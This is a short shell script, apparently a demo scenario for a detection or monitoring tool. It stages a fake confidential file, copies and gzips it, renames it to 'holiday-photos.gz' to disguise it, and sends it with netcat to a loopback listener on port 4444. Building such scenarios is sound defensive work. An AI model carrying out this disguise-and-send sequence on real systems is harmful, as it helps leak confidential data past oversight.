#!/bin/sh
# Demo scenario: an insider copies a confidential file, compresses it
# through a pipe, renames the result and sends it over loopback TCP to a
# listener that saves it.
set -eux
. /scenarios/lib.sh
mkdir -p /srv/secret /home/insider /srv/inbox
cat >/srv/secret/plans.txt <<'TXT'
CONFIDENTIAL: merger plans for Q3.
Do not distribute outside the board.
TXT
sleep 1
nc -l -p 4444 >/srv/inbox/received.bin &
listener=$!
cp /srv/secret/plans.txt /home/insider/notes.txt
cat /home/insider/notes.txt | gzip -c >/home/insider/notes.gz
mv /home/insider/notes.gz /home/insider/holiday-photos.gz
st_wait_listen 4444
nc 127.0.0.1 4444 </home/insider/holiday-photos.gz
wait $listener
ls -l /srv/inbox/received.bin
